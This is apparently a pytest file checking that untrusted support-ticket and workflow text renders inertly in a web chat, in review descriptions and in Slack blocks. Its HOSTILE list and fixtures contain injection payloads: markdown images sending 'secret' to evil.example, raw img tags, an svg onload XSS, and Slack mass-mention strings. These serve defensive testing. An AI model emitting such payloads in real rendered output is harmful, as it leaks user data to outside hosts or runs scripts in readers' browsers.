"""Untrusted text shown as Markdown or Slack mrkdwn loads nothing and links nowhere: checked
by rendering what the web chat, the review descriptions and Slack blocks actually produce."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from markdown_it import MarkdownIt

from assistant.channels.slack.blocks import draft_blocks, reply_blocks
from assistant.db.tables import TicketReply
from assistant.rendering import (
    WORD_JOINER,
    code_block,
    code_span,
    literal,
    quoted,
    safe_markdown,
)
from assistant.review import describe_workflow, reply_review
from assistant.schemas import Customer, ReplyDraft, Step, Ticket, Triage, WorkflowDraft
from assistant.support.desk import QueueItem
from assistant.web.desk import card
from assistant.web.drafts import steps_table

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][pic]\n\n[pic]: https://evil.example/ref.png",
    '<img src="https://evil.example/raw.png">',
    "<IMG SRC=https://evil.example/upper.png>",
    "<https://evil.example/autolink>",
    "[click](https://evil.example/link)",
    "[![x](https://evil.example/nested.png)](https://evil.example/)",
    "&lt;img src=https://evil.example/entity.png&gt;",
    "<!-- --><svg onload=alert(1)>",
    "`x` ``` ![x](https://evil.example/fence.png)",
    "line one\n![x](https://evil.example/second-line.png)",
    "\\![x](https://evil.example/escaped.png)",
    "[z](//evil.example/scheme-relative)",
    "\\\\[z](https://evil.example/after-a-backslash)",
]
# CommonMark with raw HTML on (the worst case) and GFM tables, as chat messages use them.
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")


def html_of(markdown: str) -> str:
    return MARKDOWN.render(markdown)


def assert_inert(html: str) -> None:
    """No element that fetches or links: no img, a, svg or any other tag from the input."""
    tags = set(re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html))
    assert not tags & {"img", "a", "svg", "iframe", "script"}, html
    assert "evil.example" not in "".join(re.findall(r"(?:src|href)=\"([^\"]*)\"", html)), html


@pytest.mark.parametrize("text", HOSTILE)
def test_literal_text_renders_as_the_same_characters_and_nothing_else(text: str) -> None:
    html = html_of(f"### Ticket: {literal(text)}")
    assert_inert(html)
    assert html.count("<h3>") == 1 and "\n<p>" not in html  # stays in its heading
    # What the reader sees is what was written (line breaks aside).
    shown = re.sub(r"<[^>]+>", "", html).replace("&lt;", "<").replace("&gt;", ">")
    shown = shown.replace("&quot;", '"').replace("&amp;", "&").replace(WORD_JOINER, "").strip()
    assert shown == "Ticket: " + " ".join(text.split("\n")).replace("\n", " ").strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_quotes_code_and_product_markdown_stay_inert(text: str) -> None:
    assert_inert(html_of(quoted(text)))
    assert_inert(html_of(f"if {code_span(text)}"))
    assert_inert(html_of(code_block(text) + "\n\nafter"))
    assert_inert(html_of(safe_markdown(f"**Note:** {text}")))
    # A review note is made safe when the review is written and again when the chat shows
    # it: applying it twice must not undo the first escape.
    assert_inert(html_of(safe_markdown(safe_markdown(f"Note: renamed step 1 to '{text}'"))))


def test_product_markdown_keeps_its_own_formatting() -> None:
    html = html_of(safe_markdown("**Results**\n\n- `s1` **ok** — posted to #finance"))
    assert "<strong>Results</strong>" in html and "<code>s1</code>" in html


def test_a_code_block_is_not_closed_by_a_fence_inside_it() -> None:
    html = html_of(code_block("Hi,\n```\n![x](https://evil.example/a.png)\n```\nBye"))
    assert html.count("<pre>") == 1 and "Bye" in html and "<img" not in html


def hostile_ticket() -> Ticket:
    return Ticket(
        id="ZD-1 ![i](https://evil.example/id.png)",
        subject="Refund ![s](https://evil.example/subject.png)",
        body="Hello\n<img src=https://evil.example/body.png>\n![b](https://evil.example/b.png)",
        customer=Customer(
            email="kim@customer.example", name="Kim ![n](https://evil.example/name.png)"
        ),
        channel="email",
    )


def test_a_hostile_ticket_card_shows_its_text_and_loads_nothing() -> None:
    record = TicketReply(
        ticket_id=1,
        thread="t",
        drafted_body="Hi Kim,\n```\n![d](https://evil.example/draft.png)",
        citations=json.dumps([]),
    )
    html = html_of(card(QueueItem(ref="HD-1", ticket=hostile_ticket(), record=record)))
    assert_inert(html)
    assert "Refund ![s](https://evil.example/subject.png)" in html.replace(WORD_JOINER, "")


def test_review_descriptions_quote_tickets_and_drafts_inertly() -> None:
    reply = ReplyDraft(
        body="Hi ![r](https://evil.example/reply.png)", confidence=0.8, triage=Triage(category="x")
    )
    assert_inert(html_of(reply_review(hostile_ticket(), reply).description))
    draft = hostile_draft()
    assert_inert(html_of(describe_workflow(draft, notice="<img src=https://evil.example/n.png>")))
    assert_inert(html_of(steps_table(draft)))


def hostile_draft() -> WorkflowDraft:
    image = "![t](https://evil.example/title.png)"
    return WorkflowDraft(
        title=f"Payouts {image}",
        goal=f"Pay <img src=https://evil.example/goal.png> {image}",
        steps=[
            Step(
                id="s1",
                title=f"Post {image} | injected | cell",
                kind="action",
                connector="slack",
                operation="post_message",
                params={"channel": "#finance", "text": "hi"},
            ),
            Step(
                id="s2",
                title="Check",
                kind="condition",
                condition="a ` ![c](https://evil.example/c.png)",
            ),
        ],
    ).sealed()


def mrkdwn_texts(blocks: list[dict[str, Any]]) -> list[str]:
    """Return every mrkdwn text of ``blocks`` (plain_text is never parsed by Slack)."""
    found: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict):
            if value.get("type") == "mrkdwn":
                found.append(str(value["text"]))
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(blocks)
    return found


def test_slack_blocks_carry_no_mentions_or_links_from_untrusted_text() -> None:
    ticket = hostile_ticket().model_copy(
        update={"subject": "<!channel> refund", "body": "<!here> see <https://evil.example|x>"}
    )
    record = TicketReply(ticket_id=1, thread="t", drafted_body="<@U0CEO> approved <!everyone>")
    texts = mrkdwn_texts(reply_blocks("HD-1", ticket, record, []))
    texts += mrkdwn_texts(draft_blocks(hostile_draft(), None, notice="<!channel> changed"))
    assert texts
    for text in texts:
        assert "<!" not in text and "<@" not in text and "<http" not in text, text
